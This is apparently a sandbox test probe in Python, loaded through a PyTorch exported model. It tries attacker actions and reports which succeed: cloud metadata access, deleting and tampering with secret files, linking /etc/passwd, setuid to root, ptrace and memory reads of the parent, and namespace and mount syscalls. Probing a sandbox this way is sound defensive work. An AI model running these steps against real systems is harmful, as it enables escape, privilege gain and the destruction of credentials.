"""Runs inside the sandbox, in an attacker's place, and writes down what it was able to do.

hostile.py sends its text inside of a model, with a call of `main`. A finding is the error that a
try ended with, or "DONE" and what it brought; all of them become the model's answers.
"""

import contextlib
import ctypes
import fcntl
import json
import os
import resource
import signal
import socket
import subprocess
import threading
from pathlib import Path
from typing import Any

import torch

found: dict[str, Any] = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, act, *arguments):
    try:
        found[name] = f"DONE {act(*arguments)!r}"[:200]
    except BaseException as error:
        found[name] = type(error).__name__


def main(known):
    """`known` are places outside that exist: ports, sockets, paths, places, secrets."""
    find_ways_out(known)
    for path in known["paths"]:
        attempt(f"read {path}", read, path)
    for place in known["places"]:
        leave_something(place)
    for path in known["secrets"]:
        attempt(f"chmod {path}", os.chmod, path, 0o700)
        attempt(f"stat {path}", lambda path: os.stat(path).st_size, path)
        attempt(f"remove {path}", os.unlink, path)
        attempt(f"append {path}", os.open, path, os.O_WRONLY | os.O_APPEND)
    become_many()
    reach_others()
    ask_the_kernel()
    look_around()
    # torch.export.load gives a program; what our own code asks it for is its module
    torch.export.ExportedProgram.module = lambda *_, **__: Teller()


# --- Ways out


def find_ways_out(known):
    for port in known["ports"]:
        attempt(f"tcp {port}", connect, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
    metadata = ("169.254.169.254", 80)
    attempt("metadata", connect, socket.AF_INET, socket.SOCK_STREAM, metadata)
    attempt("tcp6", connect, socket.AF_INET6, socket.SOCK_STREAM, ("::1", 80))
    attempt("udp", connect, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 53))
    attempt("dns", socket.getaddrinfo, "localhost", 80)
    attempt("raw socket", socket.socket, socket.AF_INET, socket.SOCK_RAW, 1)
    attempt("netlink", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
    attempt("socket pair", socket.socketpair)
    for address in known["sockets"]:
        attempt(f"unix {address!r}", connect, socket.AF_UNIX, socket.SOCK_STREAM, address)


def connect(family, kind, address):
    with socket.socket(family, kind) as end:
        end.settimeout(2)
        end.connect(address)
        return end.send(b"hello")


def read(path):
    if os.path.isdir(path):
        return os.listdir(path)
    with open(path, "rb") as file:
        return file.read(64)


def leave_something(place):
    attempt(f"write {place}", Path(place, "left").write_bytes, b"here I was")
    attempt(f"link {place}", os.symlink, "/etc/passwd", f"{place}/link")
    attempt(f"hard link {place}", os.link, "/etc/passwd", f"{place}/hard")
    attempt(f"pipe {place}", os.mkfifo, f"{place}/pipe")
    attempt(f"device {place}", os.mknod, f"{place}/device", 0o20666, os.makedev(1, 5))
    attempt(f"folder {place}", os.mkdir, f"{place}/folder")


# --- Other processes


def become_many():
    attempt("fork", fork)
    attempt("spawn", os.posix_spawn, "/bin/true", ["true"], {})
    attempt("program", subprocess.run, ["/bin/true"])
    attempt("exec", os.execv, "/bin/true", ["true"])
    attempt("session", os.setsid)


def fork():
    if os.fork() == 0:
        os._exit(0)
    return os.wait()


def reach_others():
    parent = os.getppid()
    attempt("signal parent", os.kill, parent, signal.SIGCONT)
    attempt("signal first", os.kill, 1, 0)
    attempt("signal all", os.kill, -1, signal.SIGCONT)
    attempt("signal group", os.killpg, 0, signal.SIGCONT)
    attempt("signals by descriptor", fcntl.fcntl, 0, fcntl.F_SETOWN, parent)
    attempt("root", os.setuid, 0)
    attempt("priority", os.setpriority, os.PRIO_PROCESS, parent, 19)
    attempt("memory limit", resource.setrlimit, resource.RLIMIT_AS, (-1, -1))
    attempt("time limit", resource.setrlimit, resource.RLIMIT_CPU, (-1, -1))


def ask_the_kernel():
    """By number, which are x86_64's; elsewhere they are other calls."""
    if os.uname().machine != "x86_64":
        return
    parent = os.getppid()
    for name, number, *arguments in (
        ("unshare", 272, 0x10000000), ("ptrace", 101, 16, parent, 0, 0),
        ("read memory", 310, parent, 0, 0, 0, 0, 0), ("io_uring", 425, 8, 0),
        ("shared memory", 29, 1, 4096, 0o1666), ("message queue", 68, 1, 0o1666),
        ("semaphore", 64, 1, 1, 0o1666), ("memory file", 319, b"x", 0), ("keys", 250, 0, 0),
        ("bpf", 321, 0, 0, 0), ("user fault", 323, 0), ("mount", 165, b"", b"/", b"tmpfs", 0, 0),
        ("new root", 155, b"/", b"/"), ("name spaces", 308, 0, 0), ("chroot", 161, b"/"),
        ("process handle", 434, parent, 0), ("clone", 56, 17, 0, 0, 0, 0), ("clone3", 435, 0, 0),
        ("watch files", 253), ("compare", 312, os.getpid(), parent, 0, 0, 0),
        ("dumpable", 157, 4, 1), ("send message", 46, 3, 0, 0), ("truncate", 77, 1, 0),
    ):  # fmt: skip
        attempt(f"call {name}", call, number, *arguments)


def call(number, *arguments):
    if libc.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "")
    return "allowed"


# --- What is here


def look_around():
    found["environment"] = sorted(os.environ)
    found["left over"] = [os.environ.get("LEFT", ""), str(getattr(torch, "left", ""))]
    os.environ["LEFT"] = torch.left = "by the job before"
    attempt("a thread", threading.Thread(target=found.__setitem__, args=("thread", "ran")).start)


def open_descriptors():
    """(number, kind of file) of each."""
    opened = []
    for descriptor in range(200):
        with contextlib.suppress(OSError):
            opened.append((descriptor, oct(os.fstat(descriptor).st_mode)[:-4]))
    return opened


class Teller(torch.nn.Module):
    """Answers image i with the i-th part of the findings; the image says which it is."""

    def forward(self, images):
        if len(images) > 2:
            found["descriptors"] = open_descriptors()
        written = json.dumps(found).encode().ljust(256 * 64)[: 256 * 64]
        table = torch.frombuffer(bytearray(written), dtype=torch.uint8).reshape(256, 64)
        return table[(images[:, 0, 0, 0] * 255).round().long()].float()
